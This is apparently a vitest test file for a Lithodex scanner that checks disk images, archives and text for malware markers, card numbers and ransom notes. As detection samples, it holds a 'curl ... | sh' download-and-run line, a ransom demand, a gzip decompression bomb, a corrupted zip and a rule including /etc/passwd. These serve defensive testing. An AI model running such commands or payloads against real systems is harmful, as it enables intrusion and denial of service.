import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { shippedRules } from '@lithodex/core';
import { closePools } from '@lithodex/connectors';
import type { SeenFile } from '@lithodex/contract';
import { DiskFolder, Store, topEntry } from '@lithodex/engine';
import { pointOfDisks } from '../../../../tests/support/machine-point';
import { temporaryFolder } from '../../../../tests/support/nasty-tree';
import { pointRequest, quietly } from '../../../../tests/support/store-kit';
import { takePoint } from '../work/take-point';
import { ContentLook } from './content-look';
import { NotOpened, partsWithin, Room } from './parts-within';
import { RuleSet, tryRules } from './rule-set';
import { PointScanner } from './scan-points';
import { textOf } from './text-of';

const sample = 'LITHODEX-HARMLESS-SAMPLE-OF-MALWARE-7Q4X';
const rules = RuleSet.of(shippedRules);
let base: string;

beforeEach(() => {
  base = temporaryFolder('scan');
});
afterEach(async () => {
  await closePools();
  fs.rmSync(base, { recursive: true, force: true });
});

/** A file system of `mkfs` with these files. */
function image(name: string, files: Readonly<Record<string, string>>): string {
  const tree = `${base}/${name}-tree`;
  for (const [file, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(`${tree}/${file}`), { recursive: true });
    fs.writeFileSync(`${tree}/${file}`, content);
  }
  const disk = `${base}/${name}.raw`;
  fs.writeFileSync(disk, '');
  fs.truncateSync(disk, 24 << 20);
  execFileSync('mkfs.ext4', ['-q', '-F', '-d', tree, disk]);
  fs.rmSync(tree, { recursive: true });
  return disk;
}

describe('a scan of machines', () => {
  it('looks into their file systems, and at what changed there only', async () => {
    fs.mkdirSync(`${base}/store`);
    const store = await Store.create(new DiskFolder(`${base}/store`), randomBytes(32), new Date());
    const files = { 'etc/note': 'as it should be', 'srv/planted.bin': `x${sample}`, 'srv/people.txt': 'card 4000 0000 0000 0002' };
    const one = await pointOfDisks(store, 'one', { system: image('one', files) });
    const told: SeenFile[] = [];
    const gone: string[] = [];
    const scanner = new PointScanner(
      { rules: shippedRules, sensitive: true },
      {
        seen(now, left) {
          told.push(...now);
          gone.push(...left.items);
          return Promise.resolve();
        },
        note: () => undefined,
        looked: () => undefined,
        stopped: () => false,
      },
    );
    const full = { root: { ...one.root, owners: {}, groups: {} } };
    const first = await scanner.scan(undefined, { ...one, ...full });
    expect(first).toMatchObject({ items: 3, infected: 1, notLooked: 0 });
    const noted = createHash('sha256').update(files['etc/note']).digest('hex');
    expect(told.find((f) => f.path.endsWith('etc/note'))).toMatchObject({ sum: noted, size: files['etc/note'].length });
    expect(first.finds.map((f) => f.path)).toEqual(['disks/system.raw/volume/srv/planted.bin']);
    expect(told.filter((f) => f.counts.length).map((f) => [f.path, f.counts[0]!.pattern])).toEqual([
      ['disks/system.raw/volume/srv/people.txt', 'card'],
    ]);
    // the same disk, named otherwise by its point: nothing is read
    expect(await scanner.scan({ ...one, ...full }, { ...one, ...full })).toMatchObject({ items: 0, read: 0, infected: 1 });
    const two = await pointOfDisks(store, 'two', { system: image('two', { 'etc/note': 'as it should be', 'srv/people.txt': 'moved' }) });
    const later = { ...two, root: { ...two.root, owners: {}, groups: {} } };
    expect(await scanner.scan({ ...one, ...full }, later as typeof two)).toMatchObject({ infected: 0, finds: [] });
    expect(gone).toContain('disks/system.raw/volume/srv/planted.bin');
    await scanner.close();
  });

  it('reads a disk from end to end where what is inside can not be read', async () => {
    fs.mkdirSync(`${base}/store`);
    const store = await Store.create(new DiskFolder(`${base}/store`), randomBytes(32), new Date());
    const raw = randomBytes(8 << 20);
    raw.write(sample, 5_000_000);
    const point = await pointOfDisks(store, 'raw', { system: raw });
    const notes: string[] = [];
    const scanner = new PointScanner(
      { rules: shippedRules, sensitive: false },
      {
        seen: () => Promise.resolve(),
        note: (at, why) => void notes.push(`${at}: ${why}`),
        looked: () => undefined,
        stopped: () => false,
      },
    );
    const told = await scanner.scan(undefined, { ...point, root: { ...point.root, owners: {}, groups: {} } });
    expect(told).toMatchObject({ infected: 1, finds: [{ path: 'disks/system.raw' }] });
    expect(notes.length).toBeGreaterThan(0);
    await scanner.close();
  });
});

describe('a scan of files', () => {
  it('carries what could not be looked into from task to task, as long as it is there', async () => {
    fs.mkdirSync(`${base}/store`);
    const store = await Store.create(new DiskFolder(`${base}/store`), randomBytes(32), new Date());
    const source = `${base}/source`;
    fs.mkdirSync(source);
    fs.writeFileSync(`${source}/closed.zip`, 'PK\x03\x04 no archive');
    fs.writeFileSync(`${source}/planted`, sample);
    const sink = { seen: () => Promise.resolve(), note: () => undefined, looked: () => undefined, stopped: () => false };
    const pointOf = async (id: string, previous: string | null) => {
      const { root } = await takePoint(store, pointRequest(source, id, previous), quietly);
      return { kept: store, store, root, top: topEntry(root) };
    };
    const one = await pointOf('n1', null);
    const first = new PointScanner({ rules: shippedRules, sensitive: false }, sink);
    const told = await first.scan(undefined, one);
    expect(told).toMatchObject({ notLooked: 1, infected: 1, toldAll: true, notes: [{ path: 'closed.zip', why: 'it is damaged' }] });
    fs.writeFileSync(`${source}/other`, 'tides');
    const two = await pointOf('n2', 'n1');
    const later = new PointScanner({ rules: shippedRules, sensitive: false }, sink);
    later.know(told.finds, told.notes);
    expect(await later.scan(one, two)).toMatchObject({ items: 1, notLooked: 1, infected: 1 });
    fs.rmSync(`${source}/closed.zip`);
    fs.rmSync(`${source}/planted`);
    expect(await later.scan(two, await pointOf('n3', 'n2'))).toMatchObject({ items: 0, notLooked: 0, infected: 0, notes: [], finds: [] });
  });
});

describe('what is inside a content', () => {
  it('is unpacked no further than there is room', async () => {
    const { gzipSync } = await import('node:zlib');
    const bomb = gzipSync(Buffer.alloc(64 << 20));
    const read = async () => {
      for await (const part of partsWithin(bomb, new Room(1 << 20))) expect(part.data.length).toBeLessThan(1 << 20);
    };
    await expect(read()).rejects.toThrow(NotOpened);
    const nested = [1, 2, 3, 4, 5, 6, 7, 8].reduce((data) => gzipSync(data), Buffer.from(sample));
    const look = await new ContentLook(rules, []).intoWhole(nested);
    expect(look).toMatchObject({ finds: [], notLooked: 'archives in archives go on too deep' });
  });

  it('is found behind an entry of an archive that can not be read', async () => {
    const zip = new yazl.ZipFile();
    zip.addBuffer(Buffer.from('broken on purpose'), 'first.txt', { compress: false });
    zip.addBuffer(Buffer.from(sample), 'second.txt', { compress: false });
    zip.end();
    const pieces: Buffer[] = [];
    for await (const piece of zip.outputStream as unknown as AsyncIterable<Buffer>) pieces.push(piece);
    const data = Buffer.concat(pieces);
    // a way of packing that nobody knows, in its place and in the list at the end
    data.writeUInt16LE(99, data.indexOf(Buffer.from([0x50, 0x4b, 3, 4])) + 8);
    data.writeUInt16LE(99, data.indexOf(Buffer.from([0x50, 0x4b, 1, 2])) + 10);
    const look = await new ContentLook(rules, []).intoWhole(data);
    expect(look.notLooked).toBe('it is damaged');
    expect(look.finds).toContainEqual(expect.objectContaining({ within: 'second.txt', rule: 'harmless_sample' }));
  });

  it('is told of where it is damaged, and what stands before is looked at', async () => {
    const look = await new ContentLook(rules, []).intoWhole(Buffer.from(`\x1f\x8b${sample}`, 'latin1'));
    expect(look).toMatchObject({ notLooked: 'it is damaged', finds: [{ rule: 'harmless_sample', within: '' }] });
  });
});

describe('text', () => {
  it('is told from what is none, however that begins', () => {
    expect(textOf(Buffer.from('größer als 4 m\t\x1b[1mfett\r\n'))).toContain('größer');
    expect(textOf(Buffer.from('größer als vier Meter', 'latin1'))).toBe('größer als vier Meter');
    expect(textOf(Buffer.from('\ufefftides', 'utf16le'))).toContain('tides');
    expect(textOf(Buffer.concat([Buffer.from('SOUNDINGS of the bank\n'), randomBytes(9000)]))).toBeUndefined();
    expect(textOf(Buffer.from('<?xml version="1.0"?><r><c>4000</c><c>0000</c></r>'))).not.toContain('<');
  });
});

describe('rules', () => {
  it('that ship hold, and find what they are for', () => {
    expect(tryRules(shippedRules, `for tests: ${sample}`)).toMatchObject({
      problem: null,
      finds: [{ rule: 'harmless_sample', grade: 'infected' }],
    });
    const note = 'All your files have been encrypted. Send 2 BTC to this wallet within 72 hours, or the price is doubled.';
    expect(tryRules(shippedRules, note).finds.map((f) => f.rule)).toEqual(['ransom_note']);
    expect(tryRules(shippedRules, 'Our files are encrypted at rest, and backups are tested within 30 days.').finds).toEqual([]);
    expect(tryRules(shippedRules, 'curl -s http://10.0.0.9/a | sh').finds).toMatchObject([{ rule: 'hidden_script', grade: 'suspect' }]);
  });

  it('that are wrong say where, and read nothing of the host', () => {
    expect(tryRules([{ name: 'x', text: 'rule a {\n  condition:\n    nothing\n}' }], '').problem).toMatchObject({ line: 3 });
    expect(tryRules([{ name: 'x', text: 'include "/etc/passwd"\nrule a { condition: true }' }], '').problem).not.toBeNull();
    const twice = { name: 'x', text: 'rule harmless_sample { condition: false }' };
    expect(tryRules([...shippedRules, twice], '').problem?.message).toMatch(/duplicate/);
  });
});
